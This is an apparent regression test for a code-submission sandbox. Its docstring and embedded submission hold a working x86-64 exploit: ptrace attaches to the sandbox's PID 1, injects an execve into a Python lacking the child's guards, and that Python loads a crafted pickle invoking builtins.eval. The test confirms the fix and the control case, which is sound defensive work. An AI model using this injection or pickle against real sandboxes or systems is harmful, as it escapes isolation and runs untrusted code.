'''Hundred-and-twenty-fourth adversarial pass (2026-12-07), side b: the filter of new programs (122b) was
loaded by the child, and the sandbox held one process without it, bubblewrap's init, the sandbox's PID 1.

122b made the child load a second seccomp filter (``execve``, ``execveat`` and later ``seccomp(2)`` refused)
before the predictor's folder is on ``sys.path``, so that no fresh interpreter, which has none of the child's
guards, starts in the sandbox. Every process forked from the child keeps it; the child's parent does not.
bubblewrap's init ran as the predictor's uid, with no capability and a dumpable memory, under the sandbox's
filter only (``Seccomp_filters: 1``, the child's 2), and ``ptrace`` stays allowed (confine: "Inside the
sandbox the only other process is its PID 1, under the same filter", true before 122b). A predictor's ``fit``
``PTRACE_ATTACH``-ed PID 1, wrote ``[python, -c, CODE]`` below its stack pointer, pointed its registers at an
``execve`` through the ``syscall`` instruction it was stopped after, and detached: PID 1 became the Python of
the environment with one filter and none of the guards, unpickled a pickle whose ``eval`` gives 1.5 (which
the child refuses: ``the sandbox refused to unpickle builtins.eval``), wrote it to ``/tmp`` for the predictor,
and went on reaping the child as init. ``check`` then read "PROBE 1.5 Seccomp_filters: 1" from the predictor.
(``/proc/1/mem`` opens for writing under the same check as ``ptrace``, so refusing ``ptrace`` alone is no fix.)

Now bubblewrap runs the child as the sandbox's PID 1 (``--as-pid-1``: isolation._no_unfiltered_init): every
process a predictor sees is the child or forked from it after its filter, and ``ptrace`` of PID 1 is of itself
(EPERM). Control: with the child not PID 1, the same predictor gets 1.5 from an unfiltered interpreter again.
'''

from __future__ import annotations

import re

import pytest

from perfgraphs.cli import main
from perfgraphs.leaderboard.sandbox import isolation
from test_leaderboard_review_122b import _argv, sandboxed, with_seccomp
from test_submit import code_submission, env  # noqa: F401 — env is a fixture

SRC = r'''
import ctypes, os, struct, sys, time
import numpy as np
# what the unguarded interpreter runs: a pickle's eval (refused in the child), then it reaps the child as init
PAYLOAD = ("import os,pickle;"
           "v=pickle.loads(b'\\x80\\x04\\x95\\x1b\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x8c\\x08builtins\\x94"
           "\\x8c\\x04eval\\x94\\x93\\x94\\x8c\\x031.5\\x94\\x85\\x94R\\x94.');"
           "s=[l for l in open('/proc/self/status') if l.startswith('Seccomp_filters')][0].strip();"
           "open('/tmp/pwn.tmp','w').write(repr(v)+' '+s);os.rename('/tmp/pwn.tmp','/tmp/pwn');"
           "st=os.waitpid(2,0)[1];os._exit(os.waitstatus_to_exitcode(st))")
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
class Regs(ctypes.Structure):  # struct user_regs_struct (x86-64)
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
                                                   "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
def pt(req, addr=0, data=0):
    r = libc.ptrace(req, 1, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    if r == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace {req}: {os.strerror(ctypes.get_errno())}")
    return r
def exec_in_pid1():
    ctypes.set_errno(0)
    pt(16)  # PTRACE_ATTACH
    os.waitpid(1, 0x40000000)  # __WALL
    regs = Regs(); pt(12, 0, ctypes.addressof(regs))  # PTRACE_GETREGS
    ctypes.set_errno(0)
    assert pt(1, regs.rip - 2) & 0xFFFF == 0x050F  # PTRACE_PEEKTEXT: stopped after a syscall instruction
    base = (regs.rsp - 0x4000) & ~0xF
    blob, ptrs = b"", []
    for s in (sys.executable.encode(), b"-c", PAYLOAD.encode()):
        ptrs.append(base + 64 + len(blob)); blob += s + b"\0"
    blob = struct.pack("<4Q", *ptrs, 0) + b"\0" * 32 + blob
    blob += b"\0" * (-len(blob) % 8)
    for i in range(0, len(blob), 8):
        pt(5, base + i, struct.unpack("<Q", blob[i:i + 8])[0])  # PTRACE_POKEDATA
    regs.rax, regs.orig_rax, regs.rdi, regs.rsi, regs.rdx = 59, 2**64 - 1, ptrs[0], base, 0  # execve
    regs.rip -= 2
    pt(13, 0, ctypes.addressof(regs))  # PTRACE_SETREGS
    pt(17, 0, 0)  # PTRACE_DETACH
    for _ in range(200):
        if os.path.exists("/tmp/pwn"):
            return open("/tmp/pwn").read()
        time.sleep(0.05)
    return "no answer"
class Predictor:
    def __init__(self, target, seed=0, quick=False):
        self.target = target
    def fit(self, train, val):
        raise RuntimeError("PROBE " + exec_in_pid1())
    def predict(self, graphs):
        return np.zeros(len(graphs))
'''

x86_64 = pytest.mark.skipif(__import__("os").uname().machine != "x86_64", reason="the attack's registers are x86-64's")


@sandboxed
@with_seccomp
@x86_64
def test_the_sandboxs_init_is_no_interpreter_without_the_guards(env, capsys, tmp_path, monkeypatch):  # noqa: F811
    """Attack: the predictor makes the sandbox's PID 1 execve Python, which unpickles a pickle's eval (1.5).
    Now PID 1 is the child: ptrace of itself is refused. Control: with bubblewrap's init as PID 1 (one filter,
    no guards), the predictor reads 1.5 from it."""
    sub = code_submission(tmp_path / "p", "median-init", SRC)
    assert main(_argv(sub, env)) == 1
    err = capsys.readouterr().err
    assert "PermissionError: [Errno 1] ptrace 16: Operation not permitted" in err, err

    monkeypatch.setattr(isolation, "CHILD_AS_PID_1", False)  # control: bubblewrap's init, under one filter
    assert main(_argv(sub, env)) == 1
    err = capsys.readouterr().err
    assert re.search(r"RuntimeError: PROBE 1\.5 Seccomp_filters:\s+1 ", err), err
